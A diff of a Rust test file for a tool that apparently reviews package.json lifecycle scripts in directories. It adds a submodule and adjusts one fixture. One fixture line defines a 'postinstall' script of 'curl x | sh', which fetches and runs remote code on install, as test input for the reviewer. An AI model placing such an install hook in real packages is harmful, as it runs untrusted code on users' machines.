@@ -1,6 +1,7 @@
 //! Reviews of real directories.
 
 mod links;
+mod tools;
 
 use super::{BareWatch, Review, ReviewScope};
 use rustix::fs::{CWD, FileType, Mode};
@@ -115,7 +116,7 @@ fn only_scripts_of_a_package_count() {
     let review = place.before();
     place.file("other/package.json", &text("", r#""left-pad": "1""#));
     place.file("plain/package.json", "{}");
-    place.file("node_modules/x/package.json", &text(r#""postinstall": "x""#, ""));
+    place.file("node_modules/x/package.json", &text(r#""test": "x", "prepare": "x""#, ""));
     assert_eq!(review.after(), []);
     place.file("package.json", &text(r#""test": "b", "postinstall": "curl x | sh""#, ""));
     let items = review.after();
